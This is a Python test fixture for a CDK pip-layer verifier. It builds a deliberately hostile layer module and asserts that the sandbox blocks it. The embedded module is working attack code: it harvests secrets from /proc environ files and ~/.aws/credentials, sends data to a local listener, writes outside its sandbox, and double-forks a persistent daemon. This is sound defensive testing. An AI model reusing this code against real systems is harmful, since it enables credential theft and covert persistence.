"""A hostile layer, built in tmp_path, and the means to see what it managed: it tries to read the build's
credentials from /proc, its parent's home, the network, paths outside its sandbox, and to leave a daemon behind.
Shared by the unit tier (the local sandboxes) and the container tier (the import in the build image)."""

from __future__ import annotations

import contextlib
import json
import os
import re
import signal
import socket
import tempfile
import time
import uuid
from pathlib import Path
from typing import Any

from cdk_pip_layer.engine.layer.zip_writer import write_layer_zip
from cdk_pip_layer.engine.verify.verifier import LayerVerification
from conftest import install_fake_dist

# The layer module: every attempt is made, whatever came of the others, and what each gave is raised as the
# module's import error (the one channel the smoke import hands back), so that the test sees it in the report.
HOSTILE = r"""
import json, os, socket, sys

MARK, OUTSIDE, PORT, HOME = {mark!r}, {outside!r}, {port!r}, {home!r}
found = {{}}


def attempt(name, action):
    try:
        found[name] = action()
    except BaseException as exc:  # each attempt is one fact for the report
        found[name] = "blocked: " + type(exc).__name__


def environ():
    stolen = []
    for pid in [str(os.getppid())] + [p for p in os.listdir("/proc") if p.isdigit()]:
        try:
            with open("/proc/%s/environ" % pid, "rb") as handle:
                data = handle.read().decode("utf-8", "replace")
        except OSError:
            continue
        stolen += [item for item in data.split("\0") if MARK in item]
    return sorted(set(stolen)) or "blocked: nothing visible"


def network():
    with socket.create_connection(("127.0.0.1", PORT), timeout=3) as conn:
        conn.sendall(("stolen " + MARK).encode())
    return "connected"


def write(path):
    os.makedirs(os.path.dirname(path), exist_ok=True)
    with open(path, "w") as handle:
        handle.write(MARK)
    return "written"


def daemon():
    first = os.fork()
    if first == 0:  # the classic double fork: a new session, then a grandchild that init adopts
        os.setsid()
        if os.fork() == 0:
            try:
                os.execv(sys.executable, [sys.executable, "-I", "-S", "-c", "import time; time.sleep(120)", MARK])
            finally:
                os._exit(0)
        os._exit(0)
    os.waitpid(first, 0)
    return "forked"


attempt("environ", environ)
attempt("home", lambda: open(os.path.join(HOME, ".aws", "credentials")).read())
attempt("own-home", lambda: open(os.path.join(os.path.expanduser("~"), ".aws", "credentials")).read())
attempt("network", network)
attempt("outside", lambda: write(OUTSIDE))
attempt("tmp", lambda: write("/tmp/" + MARK))
attempt("layer", lambda: write(os.path.join(os.path.dirname(__file__), "planted.py")))
attempt("daemon", daemon)
found["variables"] = sorted(os.environ)
raise RuntimeError("HOSTILE " + json.dumps(found))
"""


class Listener:
    """A TCP server on 127.0.0.1 that records whatever connects to it."""

    def __init__(self) -> None:
        self.socket = socket.socket()
        self.socket.bind(("127.0.0.1", 0))
        self.socket.listen(5)
        self.socket.settimeout(0.2)
        self.port: int = self.socket.getsockname()[1]

    def received(self) -> list[bytes]:
        got: list[bytes] = []
        while True:
            try:
                conn, _ = self.socket.accept()
            except TimeoutError:
                return got
            with conn:
                conn.settimeout(1)
                try:
                    got.append(conn.recv(4096))
                except OSError:
                    got.append(b"")

    def close(self) -> None:
        self.socket.close()


def processes_holding(mark: str) -> list[int]:
    """The live processes whose command line holds ``mark`` (a zombie's is empty)."""
    found = []
    for entry in Path("/proc").iterdir():
        if not entry.name.isdigit():
            continue
        try:
            if mark.encode() in (entry / "cmdline").read_bytes():
                found.append(int(entry.name))
        except OSError:
            continue
    return found


def survivors(mark: str, grace: float = 5.0) -> list[int]:
    """The processes holding ``mark`` once a short grace has passed (a killed process takes a moment to go)."""
    deadline = time.monotonic() + grace
    while (alive := processes_holding(mark)) and time.monotonic() < deadline:
        time.sleep(0.1)
    return alive


class Attack:
    """A hostile layer and everything needed to see what it managed: the secrets put into this process's
    environment, the listener it calls, the paths it writes."""

    def __init__(self, root: Path) -> None:
        self.root = root
        self.mark = f"hostile{uuid.uuid4().hex}"
        self.listener = Listener()
        self.outside = root / "outside" / "escaped.txt"
        self.home = root / "home"
        (self.home / ".aws").mkdir(parents=True)
        (self.home / ".aws" / "credentials").write_text(f"[default]\naws_secret_access_key = home-{self.mark}\n")
        self.secrets = {
            "AWS_SECRET_ACCESS_KEY": f"aws-{self.mark}",
            "PIP_INDEX_URL": f"https://user:pw-{self.mark}@index.example.com/simple",
            "UV_INDEX_URL": f"https://user:pw-{self.mark}@index.example.com/simple",
            "CDK_PIP_LAYER_CACHE_KEY": f"cache-{self.mark}",
            "HOME": str(self.home),
        }
        site = root / "layer" / "python"
        site.mkdir(parents=True)
        source = HOSTILE.format(mark=self.mark, outside=str(self.outside), port=self.listener.port, home=str(self.home))
        install_fake_dist(site, "evil", files={"evil/__init__.py": source})
        self.zip = root / "layer.zip"
        write_layer_zip(site.parent, self.zip)

    def found(self, answer: dict[str, Any]) -> dict[str, Any]:
        """What the hostile module reported (its import error, in the summary)."""
        match = re.search(r"HOSTILE (\{.*\})", answer["summary"])
        assert match, f"the hostile module's report is not in the findings: {answer['summary'][:2000]}"
        found: dict[str, Any] = json.loads(match.group(1))
        return found

    def assert_contained(
        self, answer: dict[str, Any], *, network: bool = True, variables: frozenset[str] = frozenset()
    ) -> dict[str, Any]:
        """Every attempt failed (the network's only when ``network``); return what the module reported."""
        found = self.found(answer)
        assert found["environ"] == "blocked: nothing visible", found
        assert str(found["home"]).startswith("blocked"), found
        # "outside" may say "written" where the sandbox gave it a private /tmp: what counts is the host's file.
        assert str(found["layer"]).startswith("blocked"), found
        assert set(found["variables"]) <= {
            "PATH",
            "LANG",
            "HOME",
            "TMPDIR",
            "LD_LIBRARY_PATH",
            "AWS_EC2_METADATA_DISABLED",
            "LC_CTYPE",
            "PWD",
            *variables,
        }, found
        assert self.mark not in answer["summary"] + answer["report"]
        assert not self.outside.exists()
        assert not (Path(tempfile.gettempdir()) / self.mark).exists()
        assert not Path(f"/tmp/{self.mark}").exists()
        assert survivors(self.mark) == [], "a daemon forked by the layer outlived the verification"
        if network:
            assert str(found["network"]).startswith("blocked"), found
            assert self.listener.received() == []
        return found

    def cleanup(self) -> None:
        self.listener.close()
        for pid in processes_holding(self.mark):
            with contextlib.suppress(OSError):
                os.kill(pid, signal.SIGKILL)
        Path(f"/tmp/{self.mark}").unlink(missing_ok=True)


def answer_of(result: LayerVerification) -> dict[str, Any]:
    """What the tests read of a verification (as RUN_VERIFY prints it)."""
    return {
        "ran": result.import_ran,
        "summary": result.summary(),
        "report": result.report.to_json(),
        "skipped": dict(result.report.skipped),
        "ok": result.ok,
        "errors": [f.subject for f in result.errors],
        "warnings": [[f.check, f.problem] for f in result.warnings],
    }
